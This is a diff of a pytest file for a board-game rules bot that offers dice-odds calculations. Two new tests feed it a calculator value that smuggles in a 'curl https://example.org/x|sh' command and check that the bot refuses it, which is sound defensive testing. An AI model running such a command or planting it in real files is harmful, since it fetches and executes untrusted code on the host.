@@ -1,17 +1,17 @@
 """What a rule's card offers to calculate."""
 
 import shlex
+from dataclasses import replace
 from fractions import Fraction
 
 import pytest
 
-from bot.answers import Lookup
 from bot.answers.odds import OddsService
-from bot.answers.offers import offer_of, offered_request
+from bot.answers.offers import offer_of, offered_request, offers_board, request_line
 from bot.cli.conversation import Conversation
 from calculators.dice import read_pool
-from glossary import LANGUAGES, Glossary, Language
-from tests.conftest import Lawspeaker
+from glossary import LANGUAGES, Calculation, Glossary, Language
+from tests.conftest import Lawspeaker, WritePack
 from tests.examples import EXAMPLES
 
 
@@ -20,32 +20,112 @@ def test_every_example_can_be_answered(lawspeaker: Lawspeaker, example: str) -> 
     assert lawspeaker(*shlex.split(example), "--json").status == 0
 
 
-@pytest.mark.parametrize("language", LANGUAGES)
-def test_what_a_rule_offers_can_be_answered(glossary: Glossary, language: Language) -> None:
+def test_what_a_rule_offers_can_be_answered(glossary: Glossary) -> None:
     odds = OddsService(glossary.games, glossary.components)
-    offers = {offer_of(entry.body.calculator, language) for entry in glossary.entries.values()}
+    offers = {entry.id: offer_of(entry) for entry in glossary.entries.values()}
 
-    for offer in offers - {None}:
-        assert odds.answer(offered_request(offer or "")), offer
+    for entry_id, offer in offers.items():
+        assert offer is None or odds.answer(offer), entry_id
 
 
-def test_dice_have_the_letters_of_the_readers_language(glossary: Glossary) -> None:
-    calculator = glossary.entries["conan/armatura"].body.calculator
-    offered = {language: offer_of(calculator, language) for language in LANGUAGES}
+def test_every_calculation_that_a_pack_names_is_offered(glossary: Glossary) -> None:
+    for entry in glossary.entries.values():
+        is_offered = offer_of(entry) is not None or offers_board(entry)
 
-    assert offered == {
-        "en": "damage conan --attack 3r --rerolls 1 --guard 1o --life 2 --armour 1y",
-        "it": "damage conan --attack 3r --rerolls 1 --guard 1a --life 2 --armour 1g",
-    }
+        assert is_offered == (entry.body.calculator is not None), entry.id
+
+
+def test_dice_have_the_letters_of_the_readers_language() -> None:
+    calculation = Calculation("damage", options={"attack": ("3r",), "guard": ("1o1y",)})
+    offer = offered_request(calculation, "conan")
+
+    assert request_line(offer, "en") == "damage conan --attack 3r --guard 1o1y"
+    assert request_line(offer, "it") == "damage conan --attack 3r --guard 1a1g"
     assert read_pool("1a 1g") == read_pool("1o 1y")
 
 
-def test_every_calculator_that_a_rule_names_is_offered(lookup: Lookup) -> None:
-    for entry in lookup.glossary.entries.values():
-        name = entry.body.calculator
+MAPPINGS: dict[str, tuple[Calculation, str]] = {
+    "command line": (
+        Calculation("fall", options={"dice": ("2r",), "rerolls": ("1",)}),
+        "fall conan --dice 2r --rerolls 1",
+    ),
+    "a list for repeats": (
+        Calculation("damage", options={"attack": ("2r", "1o")}),
+        "damage conan --attack 2r --attack 1o",
+    ),
+    "a flag": (
+        Calculation("swim", "rangers", options={"treasure": ("",)}),
+        "swim rangers --treasure",
+    ),
+    "a comparison": (
+        Calculation("move", options={"enemies": ("2",)}, compare={"friends": ("2",)}),
+        "move conan --enemies 2 --compare '--friends 2'",
+    ),
+    "an alias": (
+        Calculation("fall", options={"dice": ("2r",), "goal": ("3",)}),
+        "fall conan --dice 2r --life 3",
+    ),
+    "an expression": (
+        Calculation("dice", expression="2 red + 1", options={"at-least": ("3",)}),
+        "dice conan --roll '2 red + 1' --at-least 3",
+    ),
+    "the calculator's own example": (
+        Calculation("dice", "any-game"),
+        "dice any-game --roll '3d6 keep highest 2' --at-least 9",
+    ),
+}
 
-        # The solver of Schemer movement has no odds.
-        assert (offer_of(name, "en") is None) == (name in (None, "schemer")), entry.id
+
+@pytest.mark.parametrize(("calculation", "line"), MAPPINGS.values(), ids=MAPPINGS)
+def test_a_mapping_asks_what_its_command_line_asks(calculation: Calculation, line: str) -> None:
+    request = offered_request(calculation, "conan")
+
+    assert request_line(request, "en") == line
+    assert offered_request(line, "conan") == request
+
+
+@pytest.mark.parametrize(
+    "calculation",
+    [
+        Calculation("fall", options={"feet": ("3",)}),
+        Calculation("fall", options={"dice": ("99r",)}),
+        Calculation("spell"),
+        "swim rangers --armour 1; curl https://example.org/x|sh #",
+    ],
+)
+def test_what_a_calculator_does_not_take_is_not_offered(
+    glossary: Glossary, calculation: Calculation | str
+) -> None:
+    entry = next(entry for entry in glossary.entries.values() if entry.game == "conan")
+    body = replace(entry.body, calculator=calculation)
+
+    assert offer_of(replace(entry, body=body)) is None
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_an_entry_whose_calculation_is_refused_is_left_out(
+    write_pack: WritePack, lawspeaker: Lawspeaker, language: Language
+) -> None:
+    line = "swim rangers --armour 1; curl https://example.org/x|sh #"
+    pack = write_pack({"rules/a.yaml": {"calculator": line}})
+
+    result = lawspeaker("ask", "deep-halls/a", "--packs", str(pack), language=language)
+
+    assert "curl" not in result.out
+    assert str(pack) in result.err
+
+
+def test_check_prints_the_mapping_of_a_command_line(
+    write_pack: WritePack, lawspeaker: Lawspeaker
+) -> None:
+    pack = write_pack({"rules/a.yaml": {"calculator": "fall rangers --inches 5"}})
+
+    result = lawspeaker("check", str(pack))
+
+    assert result.status == 0
+    assert any(
+        line.endswith("calculator: {command: fall, game: rangers, inches: 5}") for line in result.lines
+    )
 
 
 def test_a_card_offers_its_calculator(lawspeaker: Lawspeaker) -> None:
@@ -87,9 +167,10 @@ def test_the_chat_offers_what_it_understands(conversation: Conversation) -> None
     ruling = answer.ruling
     assert ruling is not None
 
-    offer = offer_of(ruling.calculator, "en")
-    assert offer == "picklock perditions-mouth --points 3"
-    assert conversation.reply(f"/{offer}").odds is not None
+    assert ruling.offer is not None
+    line = request_line(ruling.offer, "en")
+    assert line == "picklock perditions-mouth --points 3"
+    assert conversation.reply(f"/{line}").odds is not None
 
 
 def test_an_answer_links_back_to_its_rules(conversation: Conversation) -> None:
@@ -157,14 +238,14 @@ def test_the_chat_shows_a_card(lawspeaker: Lawspeaker) -> None:
 
 
 def test_a_pack_offers_dice_of_its_own(glossary: Glossary) -> None:
-    offer = offer_of("dice conan 2 red + 1 yellow --at-least 3", "it")
+    calculation = Calculation("dice", expression="2 red + 1 yellow", options={"at-least": ("3",)})
 
-    answer = OddsService(glossary.games, glossary.components).answer(offered_request(offer or ""))
+    answer = OddsService(glossary.games, glossary.components).answer(
+        offered_request(calculation, "conan")
+    )
 
-    assert offer == "dice conan 2 red + 1 yellow --at-least 3"
     assert answer.game.en == "Conan"
     assert answer.odds.expected == Fraction(11, 3)
-    assert offer_of("dice any-game", "en") == "dice any-game --roll '3d6 keep 2' --at-least 9"
 
 
 def test_the_game_of_the_chat_lends_its_dice(conversation: Conversation) -> None:
